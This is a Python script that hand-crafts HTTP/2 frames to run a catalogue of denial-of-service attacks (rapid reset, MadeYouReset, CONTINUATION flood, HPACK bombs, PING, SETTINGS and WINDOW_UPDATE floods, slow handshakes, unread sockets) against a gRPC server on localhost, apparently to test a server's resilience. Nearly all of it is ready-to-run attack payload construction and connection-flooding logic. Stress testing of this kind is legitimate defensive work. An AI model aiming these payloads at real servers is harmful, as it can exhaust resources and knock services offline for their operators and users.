"""One hostile client: `python attack.py NAME PORT SECONDS`. Whenever the server closes its connection, it opens the next.

Speaks HTTP/2 by hand, so that it needs neither library nor time: everything it sends is made once. Prints how many
connections it took.
"""

from __future__ import annotations

import contextlib
import dataclasses
import itertools
import socket
import struct
import sys
import time
from collections.abc import Callable

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field without indexing (RFC 7541, section 6.2.2), shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request(path: str = "/grpc.health.v1.Health/Check") -> bytes:
    fields = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(itertools.starmap(literal, fields.items()))


def settings(values: dict[int, int]) -> bytes:
    return frame(SETTINGS, payload=b"".join(struct.pack("!HI", *item) for item in values.items()))


def window_update(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", increment))


def opening(values: dict[int, int] | None = None) -> bytes:
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings(values or {}) + frame(SETTINGS, 1)


def streams(make: Callable[[int], bytes], count: int) -> bytes:
    return b"".join(make(1 + 2 * number) for number in range(count))


def call(stream: int, path: str = "/grpc.health.v1.Health/Check", body: bytes = b"") -> bytes:
    message = struct.pack("!BI", 0, len(body)) + body
    return frame(HEADERS, END_HEADERS, stream, request(path)) + frame(DATA, END_STREAM, stream, message)


@dataclasses.dataclass
class Attack:
    """What is sent once, and then again and again; how many connections at a time; whether it reads answers."""

    once: bytes
    again: bytes = b""
    connections: int = 4
    reads: bool = True


_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_SYMBOL = b"\x22\x22cloudphone.device.v1.DeviceService"
# A field of 4 kB for the dynamic table, and then one byte for each time that it comes.
_BOMB = b"\x40\x06x-bomb\x7f" + bytes([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]) + b"b" * 3900

ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack(
        opening() + streams(
            lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, request())
            + frame(RST_STREAM, 0, stream, struct.pack("!I", 8)), 20_000)),
    "MadeYouReset": Attack(
        opening() + streams(
            lambda stream: frame(HEADERS, END_HEADERS, stream, request()) + window_update(stream, 0x7FFFFFFF), 5000)),
    "CONTINUATION flood": Attack(opening() + frame(HEADERS, 0, 1, request()), frame(CONTINUATION, 0, 1) * 5000),
    "HPACK bomb": Attack(
        opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + _BOMB)
        + frame(HEADERS, END_HEADERS | END_STREAM, 3, request() + b"\xbe" * 16_000)),
    "HPACK bomb on closed streams": Attack(
        opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + _BOMB)
        + frame(RST_STREAM, 0, 1, struct.pack("!I", 8)),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xbe" * 16_000) * 4),
    "PING": Attack(opening(), frame(PING, 0, 0, bytes(8)) * 4000),
    "SETTINGS": Attack(opening(), settings({INITIAL_WINDOW_SIZE: 65535}) * 4000),
    "empty DATA": Attack(opening() + frame(HEADERS, END_HEADERS, 1, request()), frame(DATA, 0, 1) * 7000),
    "PRIORITY": Attack(opening(), frame(PRIORITY, 0, 7, struct.pack("!IB", 0, 1)) * 4000),
    "unknown frames": Attack(opening(), frame(0xBE, 0, 0) * 7000),
    "WINDOW_UPDATE": Attack(opening(), window_update(0, 1) * 5000),
    "connections": Attack(opening() + frame(HEADERS, 0, 1, request()) + frame(DATA), connections=8),
    "slow handshakes": Attack(b"PRI", connections=1000),
    "closed windows": Attack(
        opening({INITIAL_WINDOW_SIZE: 0}) + streams(call, 1000), connections=20),
    "unread sockets": Attack(
        opening({INITIAL_WINDOW_SIZE: 0x7FFFFFFF}) + window_update(0, 0x7FFFFFFF - 65535)
        + streams(lambda stream: call(stream, _REFLECTION, _SYMBOL), 1000), connections=20, reads=False),
}


# The kernel doesn't interrupt a send, and has the receiver's work done in it: a megabyte at once would have a neighbour on
# the same core wait for milliseconds, whoever the server is.
_PIECE = 16384


class Connection:
    def __init__(self, port: int, attack: Attack) -> None:
        self.attack = attack
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket.setblocking(False)
        self.rest = memoryview(attack.once)

    def push(self) -> bool:
        """Sends and reads what goes at once; false at the end."""
        try:
            while self.rest:
                self.rest = self.rest[self.socket.send(self.rest[:_PIECE]):]
                if not self.rest:
                    self.rest = memoryview(self.attack.again)
                    break
        except BlockingIOError:
            pass
        except OSError:
            return False
        if self.attack.reads:
            try:
                return bool(self.socket.recv(1 << 16))
            except BlockingIOError:
                return True
            except OSError:
                return False
        return True


def run(attack: Attack, port: int, seconds: float) -> int:
    made, ends = 0, time.monotonic() + seconds
    open_: list[Connection] = []
    while time.monotonic() < ends:
        while len(open_) < attack.connections and time.monotonic() < ends:
            with contextlib.suppress(OSError):
                open_.append(Connection(port, attack))
                made += 1
                open_[-1].push()
        kept = []
        for connection in open_:
            if connection.push():
                kept.append(connection)
            else:
                connection.socket.close()
        if len(kept) == len(open_):
            time.sleep(0.0005)
        open_ = kept
    for connection in open_:
        connection.socket.close()
    return made


if __name__ == "__main__":
    print(run(ATTACKS[sys.argv[1]], int(sys.argv[2]), float(sys.argv[3])))
